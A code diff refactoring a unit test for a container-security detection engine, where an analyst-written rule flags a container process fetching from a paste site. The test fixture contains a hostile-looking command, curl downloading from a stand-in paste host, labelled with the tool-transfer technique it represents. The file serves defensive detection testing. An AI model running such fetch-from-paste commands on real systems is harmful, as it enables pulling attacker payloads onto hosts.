@@ -6,7 +6,7 @@ import { DETECTORS } from '../../../electron/engine/detect/registry.js';
 import { formatRuleError, loadRulesDir } from '../../../electron/engine/detect/rules/load-rules.js';
 import { conditionHolds } from '../../../electron/engine/detect/rules/match.js';
 import { runDetectors } from '../../../electron/engine/detect/run-detectors.js';
-import { container, detail, engine, hostProcs } from './fixtures.js';
+import { container, engine, hostProcs } from './fixtures.js';
 
 /** Rule files as an analyst writes them, read from a real directory: valid ones load, each invalid one is named by file and line. */
 let dir = '';
@@ -148,10 +148,9 @@ describe('matching', () => {
 
   it('a loaded rule finds its process and fills its summary; the look-alike is left alone', async () => {
     const { detectors } = await loadRulesDir(dir, BUILTIN);
-    const bad = container(detail({ name: 'fetcher', image: 'alpine:3' }));
-    const okImage = container(detail({ name: 'trusted', image: 'registry.example/tools:1' }));
-    bad.processes = hostProcs(bad.container.id, [{ pid: 10, ppid: 1, comm: 'curl', cmdline: 'curl -s https://paste.example/raw/abc', exe: '/usr/bin/curl', user: '0' }]);
-    okImage.processes = hostProcs(okImage.container.id, [{ pid: 11, ppid: 1, comm: 'curl', cmdline: 'curl -s https://paste.example/raw/abc', exe: '/usr/bin/curl', user: '0' }]);
+    const curl = { ppid: 1, comm: 'curl', cmdline: 'curl -s https://paste.example/raw/abc', exe: '/usr/bin/curl', user: '0' };
+    const bad = container({ name: 'fetcher', image: 'alpine:3' }, { processes: hostProcs('x', [{ pid: 10, ...curl }]) });
+    const okImage = container({ name: 'trusted', image: 'registry.example/tools:1' }, { processes: hostProcs('y', [{ pid: 11, ...curl }]) });
     const r = runDetectors(engine([bad, okImage]), { detectors: [...DETECTORS, ...detectors] });
     const hits = r.findings.filter((f) => f.detector === 'site.curl-paste');
     expect(hits.map((f) => [f.container?.name, f.severity, f.summary, f.attack, f.cause])).toEqual([['fetcher', 'high', 'fetcher ran curl -s https://paste.example/raw/abc', ['T1105'], 'rule:site.curl-paste']]);
